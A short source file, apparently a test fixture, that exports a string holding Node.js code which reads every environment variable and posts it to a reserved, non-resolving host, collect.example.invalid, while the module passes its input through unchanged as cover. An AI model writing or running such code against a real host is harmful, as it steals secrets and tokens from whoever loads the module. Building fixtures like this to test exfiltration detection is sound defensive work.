/** Reads the environment and sends it to a reserved name that never resolves. */
export const COURIER = `const https = require('https');
const body = JSON.stringify(process.env);
const request = https.request({ hostname: 'collect.example.invalid', method: 'POST', path: '/' });
request.write(body);
request.end();
module.exports = (text) => text;
`;
